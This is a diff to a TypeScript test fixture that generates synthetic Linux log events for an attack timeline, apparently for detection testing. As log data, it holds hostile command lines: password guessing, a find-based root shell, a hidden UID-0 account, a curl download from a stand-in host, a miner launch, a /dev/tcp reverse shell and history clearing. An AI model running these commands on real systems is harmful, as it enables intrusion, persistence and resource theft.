@@ -95,7 +95,7 @@ function sidText(view: DataView): string {
   return ["S", view.getUint8(0), view.getUint32(4, false), ...parts].join("-");
 }
 
-/** sshd, sudo and useradd on one Linux host: guessing, a login, root, a new account. */
+/** One Linux host: guessed passwords, a login as root, a second root, commands of a web server. */
 export function linuxAuthentication(): readonly Json[] {
   const line = (clock: string, program: string, pid: number, fields: { [key: string]: Json }) => ({
     "@timestamp": `2025-03-11T${clock}Z`,
@@ -128,20 +128,66 @@ export function linuxAuthentication(): readonly Json[] {
       command,
       message: `${user} : TTY=pts/0 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`,
     });
+  const command = (
+    clock: string,
+    image: string,
+    commandLine: string,
+    parent: string,
+    user: string,
+  ) =>
+    line(clock, "sysmon", 812, {
+      EventID: 1,
+      Image: image,
+      CommandLine: commandLine,
+      ParentImage: parent,
+      User: user,
+      CurrentDirectory: "/",
+    });
   return [
+    command(
+      "06:25:01.000",
+      "/usr/sbin/logrotate",
+      "logrotate /etc/logrotate.conf",
+      "/usr/sbin/cron",
+      "root",
+    ),
     ssh("07:45:10.000", "accepted", "deploy", "10.20.30.5", "publickey"),
     sudo("07:45:31.000", "deploy", "/usr/bin/apt-get update"),
     ...["root", "admin", "oracle", "test", "postgres", "git", "ubuntu", "deploy"].map((user, n) =>
       ssh(`09:05:${String(10 + n * 2)}.000`, "failed", user, "198.51.100.23", "password")
     ),
-    ssh("09:05:40.000", "accepted", "deploy", "198.51.100.23", "password"),
-    sudo("09:06:02.000", "deploy", "/bin/bash -c curl http://updates.example.net/x.sh | sh"),
+    ssh("09:05:40.000", "accepted", "root", "198.51.100.23", "password"),
+    sudo("09:06:02.000", "deploy", "/usr/bin/find / -exec /bin/sh ;"),
     line("09:06:20.000", "useradd", 2377, {
       user: "sysupdate",
       uid: 0,
       message: "new user: name=sysupdate, UID=0, GID=0, home=/root, shell=/bin/bash",
     }),
-    sudo("09:06:45.000", "deploy", "/bin/cat /etc/shadow"),
+    line("09:06:24.000", "usermod", 2379, {
+      user: "sysupdate",
+      message: "add 'sysupdate' to group 'sudo'",
+    }),
+    command(
+      "09:06:45.000",
+      "/usr/bin/bash",
+      "sh -c id; curl http://updates.example.net/x.sh -o /tmp/.x",
+      "/usr/sbin/nginx",
+      "www-data",
+    ),
+    command(
+      "09:06:52.000",
+      "/tmp/.x",
+      "/tmp/.x -o pool.example.net:3333",
+      "/usr/bin/bash",
+      "www-data",
+    ),
+    command(
+      "09:07:10.000",
+      "/usr/bin/bash",
+      "bash -c bash -i >& /dev/tcp/198.51.100.23/4444 0>&1",
+      "/usr/bin/bash",
+      "www-data",
+    ),
     line("09:07:30.000", "bash", 2391, {
       user: "root",
       command: "history -c",
